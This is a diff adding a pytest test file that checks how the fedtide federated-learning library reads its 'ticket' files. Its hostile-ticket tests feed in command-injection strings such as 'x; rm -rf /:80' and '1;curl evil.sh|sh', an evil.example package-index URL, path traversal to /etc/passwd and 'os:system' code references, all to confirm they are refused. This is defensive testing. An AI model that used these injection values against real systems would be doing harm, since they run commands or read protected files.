@@ -1,0 +1,284 @@
+"""Tickets: what is written is read; what strangers write is refused in one line."""
+
+from __future__ import annotations
+
+import tomllib
+from contextlib import suppress
+from datetime import UTC, datetime, timedelta
+from typing import Any
+
+import numpy as np
+import pytest
+import tomli_w
+from hypothesis import given
+from hypothesis import strategies as st
+
+from fedtide.config import from_dict
+from fedtide.core.errors import FedtideError
+from fedtide.site.tickets import RowsAbout, Ticket, check_portable, study_for
+from helpers.examples import examples
+from helpers.toys import toy
+
+STUDY = study_for(toy("scaffold"))
+
+
+def ticket(**changes: Any) -> Ticket:
+    values: dict[str, Any] = {
+        "scheme": 1,
+        "node": "berlin",
+        "clients": (0,),
+        "registered": 3,
+        "address": "fl.example.org:8300",
+        "authority": "-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n",
+        "digest": "0123456789abcdef",
+        "seed": 0,
+        "made": datetime(2026, 11, 21, 12, tzinfo=UTC),
+        "versions": {"fedtide": "0.1.0", "torch": "2.13.0"},
+        "rows": RowsAbout(shape=(4,), dtype="float32", classes=3, source={"kind": "npz"}),
+        "study": STUDY,
+    }
+    return Ticket(**values | changes)
+
+
+def again(made: Ticket) -> Ticket:
+    return Ticket.from_dict(tomllib.loads(made.to_toml()))
+
+
+def sealed(**changes: Any) -> dict[str, Any]:
+    """The content of a ticket with a seal that fits, as a stranger can make it."""
+    values = tomllib.loads(ticket().to_toml()) | changes
+    with suppress(ValueError):
+        values["seal"] = Ticket.model_validate({key: value for key, value in values.items() if key != "seal"}).seal
+    return values
+
+
+def test_a_ticket_is_read_as_it_was_written(tmp_path):
+    made = ticket()
+    made.write(tmp_path / "berlin.ticket")
+    assert Ticket.read(tmp_path / "berlin.ticket") == made
+    assert made.experiment.method[0].algorithm == "scaffold"
+    with pytest.raises(FedtideError, match="is there already"):
+        made.write(tmp_path / "berlin.ticket")
+
+
+def test_a_ticket_brings_the_method_as_the_study_has_it():
+    study = toy("fedtem", shift={"who": {"kind": "periodic", "period": 6}})
+    assert again(ticket(study=study_for(study))).experiment.method[0].settings() == study.method[0].settings()
+
+
+def test_a_ticket_holds_no_rows_and_no_place_of_them(tmp_path):
+    study = from_dict(
+        {
+            "data": {"source": {"kind": "csv", "path": "secret-place.csv"}, "directory": "/secret"},
+            "method": [{"name": "A", "algorithm": "fedavg"}],
+        }
+    )
+    assert "secret" not in tomli_w.dumps(study_for(study))
+
+
+names = st.text(st.sampled_from("abz019-"), min_size=1, max_size=12).filter(lambda s: s.strip("-") == s)
+words = st.text(st.characters(min_codepoint=0xA1, max_codepoint=0x24F) | st.sampled_from("ab \"'\\#="), max_size=12)
+
+
+@examples(60)
+@given(
+    node=names,
+    clients=st.lists(st.integers(0, 10_000_000), min_size=1, max_size=5, unique=True),
+    seed=st.integers(0, 2**63 - 1),
+    labels=st.lists(words, min_size=2, max_size=5, unique=True),
+    columns=st.lists(words, min_size=1, max_size=5, unique=True),
+    versions=st.dictionaries(words, st.sampled_from(["0.1.0", "2.13.0+cpu", "3.14.0rc1"]), max_size=4),
+    made=st.datetimes(datetime(2000, 1, 1), datetime(2100, 1, 1), timezones=st.just(UTC)),
+    port=st.integers(1, 65535),
+    cuts=st.lists(st.floats(-1e9, 1e9), max_size=3, unique=True),
+)
+def test_every_ticket_comes_back(node, clients, seed, labels, columns, versions, made, port, cuts):
+    source = {"kind": "csv", "label": labels[0], "cuts": sorted(cuts)}
+    rows = RowsAbout(
+        shape=(len(columns),), dtype="float64", classes=len(labels), labels=labels, columns=columns, source=source
+    )
+    whole = ticket(
+        node=node, clients=clients, seed=seed, versions=versions, made=made, rows=rows, address=f"[::1]:{port}"
+    )
+    assert again(whole) == whole
+    assert again(whole).seal == whole.seal
+
+
+@examples(300)
+@given(st.data())
+def test_damaged_tickets_are_refused_or_the_same(data):
+    text = bytearray(ticket().to_toml().encode())
+    kind = data.draw(st.sampled_from(["flip", "cut", "insert", "swap"]))
+    at = data.draw(st.integers(0, len(text) - 1))
+    if kind == "flip":
+        text[at] ^= data.draw(st.integers(1, 255))
+    elif kind == "cut":
+        del text[at : at + data.draw(st.integers(1, 200))]
+    elif kind == "insert":
+        text[at:at] = data.draw(st.binary(min_size=1, max_size=8))
+    else:
+        other = data.draw(st.integers(0, len(text) - 1))
+        text[at], text[other] = text[other], text[at]
+    try:
+        found = Ticket.from_dict(tomllib.loads(text.decode()))
+    except (FedtideError, UnicodeDecodeError, tomllib.TOMLDecodeError):
+        pass
+    else:
+        assert found == ticket()
+
+
+@pytest.mark.parametrize(
+    ("changes", "said"),
+    [
+        ({"scheme": 2}, "scheme: found 2, but another version of fedtide made it; allowed: 1"),
+        ({"scheme": True}, "scheme: found True"),
+        ({"node": "../etc"}, "node: found '../etc'"),
+        ({"node": "-berlin"}, "node: found '-berlin'"),
+        ({"node": "Berlin"}, "node: found 'Berlin'"),
+        ({"clients": []}, "clients: found"),
+        ({"clients": [0, 0]}, "clients: found a value twice"),
+        ({"clients": [-1]}, "clients"),
+        ({"clients": list(range(5)) * 2}, "twice"),
+        ({"address": "fl.example.org"}, "address: found 'fl.example.org', allowed: HOST:PORT"),
+        ({"address": "a b:1"}, "address"),
+        ({"address": "-x:80"}, "address"),
+        ({"address": "x:99999"}, "address"),
+        ({"address": "x; rm -rf /:80"}, "address"),
+        ({"authority": "A" * 30_000}, "authority: found 30000 characters"),
+        ({"digest": "0123"}, "digest"),
+        ({"digest": "../../../../../.."}, "digest"),
+        ({"seed": -1}, "seed"),
+        ({"seed": 2**70}, "seed"),
+        ({"made": "yesterday"}, "made"),
+        ({"made": "2026-01-01T00:00:00"}, "made: .*with its zone"),
+        ({"versions": {"torch": "\x1b[2J"}}, "versions.torch: found .*, allowed: a version such as"),
+        ({"versions": {"\x1b[2J": "1"}}, "control character"),
+        (
+            {"versions": {"fedtide": "9 --extra-index-url https://evil.example/simple"}},
+            "versions.fedtide: found '9 --ex",
+        ),
+        ({"versions": {"fedtide": "1;curl evil.sh|sh"}}, "versions.fedtide: found"),
+        ({"versions": {"fedtide": "1$(id)"}}, "versions.fedtide: found"),
+        ({"versions": {"fedtide": "-r"}}, "versions.fedtide: found"),
+        ({"versions": {"fedtide": "1\n2"}}, "versions.fedtide: found"),
+        ({"versions": {"fedtide": ""}}, "versions.fedtide: found"),
+        ({"extra": 1}, "extra: unknown key"),
+        ({"study": {}}, "study: method"),
+        ({"study": []}, "study"),
+    ],
+)
+def test_hostile_tickets_are_refused(changes, said):
+    with pytest.raises(FedtideError, match=said):
+        Ticket.from_dict(sealed(**changes))
+
+
+ROWS = {"shape": [4], "dtype": "float32", "classes": 3, "labels": [], "columns": [], "source": {"kind": "npz"}}
+
+
+@pytest.mark.parametrize(
+    ("changes", "said"),
+    [
+        ({"shape": [10**9, 10**9]}, "100,000,000 numbers at most"),
+        ({"shape": [0]}, "rows.shape"),
+        ({"shape": [1] * 9}, "rows.shape"),
+        ({"dtype": "object"}, "rows.dtype"),
+        ({"classes": 10**12}, "rows.classes"),
+        ({"labels": ["a"]}, "1 names of 3 classes"),
+        ({"labels": ["a", "a", "b"]}, "twice"),
+        ({"columns": ["a"]}, "1 columns and rows of shape"),
+        (
+            {"source": {"kind": "python", "function": "os:system"}},
+            "rows.source.kind: found 'python', allowed: csv, npz",
+        ),
+        ({"source": {"kind": "npz", "path": "/etc/passwd"}}, "rows.source: found 'path'"),
+        ({"source": {"kind": "csv", "features": ["a"]}}, "rows.source: found 'features'"),
+        ({"source": {"kind": "csv", "label": 5}}, "rows.source"),
+        ({"source": {"kind": "csv", "cuts": [2.0, 1.0]}}, "rows.source.*rising"),
+        ({"source": {}}, "rows.source.kind: found None"),
+        ({"source": {"kind": ["csv"]}}, "rows.source.kind"),
+    ],
+)
+def test_hostile_descriptions_of_rows_are_refused(changes, said):
+    with pytest.raises(FedtideError, match=said):
+        Ticket.from_dict(sealed(rows=ROWS | changes))
+
+
+EVIL = {"kind": "python", "function": "os:system", "options": {"command": "touch /tmp/executed"}}
+
+
+def study(**changes: Any) -> dict[str, Any]:
+    return STUDY | changes
+
+
+def method(**changes: Any) -> dict[str, Any]:
+    return study(method=[STUDY["method"][0] | changes])
+
+
+@pytest.mark.parametrize(
+    ("content", "said"),
+    [
+        (method(algorithm="os:system"), "a registered name, because tickets bring no code"),
+        (method(algorithm="fedtide.site.site:make_site"), "a registered name, because tickets bring no code"),
+        (method(loss=EVIL), "loss.*names no code"),
+        (method(cohort=EVIL), "cohort.*names no code"),
+        (method(init_from="/etc/passwd"), "init_from"),
+        (study(model=EVIL), "model.*names no code"),
+        (study(data={"source": EVIL}), "data.source"),
+        (study(metrics=["os:system"]), "metrics.*no such key in a ticket"),
+        (study(shift={"who": EVIL}), "shift.*no such key in a ticket"),
+        (study(devices=EVIL), "devices.*no such key"),
+        (study(method=STUDY["method"] * 2), "method"),
+        (study(data="python:os:system"), "data"),
+        (study(data={"directory": "/etc"}), "data.directory"),
+        (study(fleet={"kind": "ray", "address": "evil:1"}), "fleet.kind"),
+        (study(rounds=-1), "study: rounds: found -1"),
+    ],
+)
+def test_a_ticket_brings_no_code_and_opens_no_file(content, said, monkeypatch):
+    def never(*given: Any) -> None:
+        raise AssertionError("something was imported")
+
+    monkeypatch.setattr("fedtide.fields.user_code.importlib.import_module", never)
+    with pytest.raises(FedtideError, match=said):
+        Ticket.from_dict(sealed(study=content))
+
+
+def test_what_nests_deeply_is_refused(tmp_path):
+    for text in ("study = " + "[" * 100_000, "study." + ".".join("a" * 3000) + " = 1"):
+        (tmp_path / "deep.ticket").write_text(f"scheme = 1\n{text}\n")
+        with pytest.raises(FedtideError, match=r"deep\.ticket: "):
+            Ticket.read(tmp_path / "deep.ticket")
+
+
+def test_what_is_no_ticket_is_refused(tmp_path):
+    for content in (
+        b"",
+        b"\xff\xfe\x00",
+        b"a = [",
+        b"x" * 3_000_000,
+        b"n = " + b"9" * 100_000,
+        bytes(np.arange(256, dtype=np.uint8)),
+    ):
+        (tmp_path / "x.ticket").write_bytes(content)
+        with pytest.raises(FedtideError, match=r"x\.ticket: ") as said:
+            Ticket.read(tmp_path / "x.ticket")
+        assert "\n" not in str(said.value)
+
+
+def test_a_changed_ticket_is_noticed():
+    values = tomllib.loads(ticket().to_toml())
+    values["address"] = "evil.example.org:8300"
+    with pytest.raises(FedtideError, match=r"seal: .*damaged or changed"):
+        Ticket.from_dict(values)
+
+
+@pytest.mark.parametrize("days", [-1, 4000])
+def test_a_clock_that_is_wrong_is_named(days):
+    with pytest.raises(FedtideError, match="set the clock"):
+        ticket().check_clock(ticket().made + timedelta(days=days))
+
+
+def test_studies_that_name_files_are_not_deployed():
+    study = toy("fedavg", {"loss": {"kind": "python", "function": "mine:loss"}})
+    with pytest.raises(FedtideError, match="because tickets bring neither to nodes"):
+        check_portable(study, study.method[0])
